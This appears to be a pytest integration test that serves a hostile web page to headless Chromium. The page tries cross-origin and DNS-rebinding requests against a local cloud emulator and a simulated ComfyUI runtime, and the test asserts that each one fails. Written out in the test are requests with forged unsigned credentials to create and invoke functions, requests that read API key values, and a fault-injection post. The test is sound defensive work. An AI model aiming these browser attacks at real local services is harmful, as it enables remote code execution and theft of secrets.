"""A hostile page in a real browser, against a running emulator and a simulated runtime."""

import json
import shutil
import subprocess
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from queue import Queue
from typing import Any

import pytest

from easel_local.emulator import Emulator
from easel_simulators.comfyui import SimulatedComfyUi
from tests.charts.prerequisites import missing
from tests.integration.test_local_stack_is_nobody_elses import FUNCTIONS, function_of

pytestmark = pytest.mark.integration

BROWSER = "chromium"
NAME = "hostile.example"
SECONDS = 90
API_KEY = "a-key-that-no-page-may-read"

PAGE = """<script>
const attempt = async (url, options) => {
  try {
    const answer = await fetch(url, options);
    return [answer.type, answer.status, await answer.text()];
  } catch (error) {
    return ["error", 0, String(error)];
  }
};
(async () => {
  const outcomes = {};
  for (const [name, url, options] of ATTACKS) outcomes[name] = await attempt(url, options);
  await fetch("/outcomes", {method: "POST", body: JSON.stringify(outcomes)});
})();
</script>"""


class HostileSite:
    """Serves the page, and takes what came of it."""

    def __init__(self) -> None:
        self.attacks: list[tuple[str, str, dict[str, Any]]] = []
        self.outcomes: Queue[dict[str, Any]] = Queue()
        site = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *_: object) -> None:
                pass

            def do_GET(self) -> None:
                page = PAGE.replace("ATTACKS", json.dumps(site.attacks))
                self._answer(page if self.path == "/" else "open to all")

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"]))
                site.outcomes.put(json.loads(body))
                self._answer("")

            def _answer(self, text: str) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(text)))
                self.end_headers()
                self.wfile.write(text.encode())

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_port


@pytest.fixture
def site() -> Iterator[HostileSite]:
    site = HostileSite()
    thread = threading.Thread(target=site.server.serve_forever, daemon=True)
    thread.start()
    yield site
    site.server.shutdown()
    site.server.server_close()


@pytest.fixture
def visit(tmp_path: Path, site: HostileSite) -> Callable[[str], dict[str, Any]]:
    """Opens the site under a name in the browser; what came of its attacks."""
    if shutil.which(BROWSER) is None:
        missing(f"{BROWSER} is not on PATH: apt-get install {BROWSER}")

    def visited(host: str) -> dict[str, Any]:
        command = [
            *(BROWSER, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run"),
            *(f"--user-data-dir={tmp_path / 'profile'}", "--no-proxy-server"),
            # What the owner of the name would have his DNS server say.
            f"--host-resolver-rules=MAP {NAME} 127.0.0.1",
            *("--remote-debugging-port=0", f"http://{host}:{site.port}/"),
        ]
        log = (tmp_path / "browser.log").open("wb")
        with log, subprocess.Popen(command, stdout=log, stderr=log) as browser:
            try:
                return site.outcomes.get(timeout=SECONDS)
            finally:
                browser.terminate()

    return visited


@pytest.mark.parametrize("host", [NAME, "127.0.0.1", "localhost"])
def test_a_page_runs_no_code_and_reads_nothing(
    emulator: Emulator,
    client: Callable[..., Any],
    site: HostileSite,
    visit: Callable[[str], dict[str, Any]],
    tmp_path: Path,
    host: str,
) -> None:
    marker = tmp_path / "code-ran"
    apigateway = client("apigateway")
    key = apigateway.create_api_key(name="secret", value=API_KEY, enabled=True)["id"]
    url = emulator.endpoint_url
    rebound = url.replace("127.0.0.1", NAME)
    post = {"method": "POST", "mode": "no-cors", "headers": {"Content-Type": "text/plain"}}
    create = post | {"body": function_of(marker)}
    invoke = post | {"body": "{}"}
    unsigned = "?X-Amz-Credential=test/20260101/us-east-1/lambda/aws4_request&X-Amz-Signature=00"
    with SimulatedComfyUi() as comfyui:
        site.attacks = [
            ("open", f"http://127.0.0.1:{site.port}/open", {}),
            ("create", f"{url}{FUNCTIONS}{unsigned}", create),
            ("invoke", f"{url}{FUNCTIONS}/hostile/invocations{unsigned}", invoke),
            ("create by name", f"{rebound}{FUNCTIONS}", create),
            ("invoke by name", f"{rebound}{FUNCTIONS}/hostile/invocations", invoke),
            ("keys", f"{url}/apikeys?includeValues=true", {}),
            ("keys by name", f"{rebound}/apikeys?includeValues=true", {}),
            ("runtime", f"{comfyui.url}/queue", {}),
            ("faults", f"{comfyui.url}/_sim/faults", post | {"body": '{"kind": "slow"}'}),
        ]
        outcomes = visit(host)
        assert not comfyui.faults.coming()
    apigateway.delete_api_key(apiKey=key)
    # The page ran, and reaches this machine: what is open to all it reads.
    assert outcomes.pop("open")[1:] == [200, "open to all"]
    assert set(outcomes) == {name for name, _, _ in site.attacks} - {"open"}
    for name, (kind, status, text) in outcomes.items():
        assert (kind, status) in {("opaque", 0), ("error", 0)}, name
        assert API_KEY not in text
    assert not marker.exists()
    assert client("lambda").list_functions()["Functions"] == []
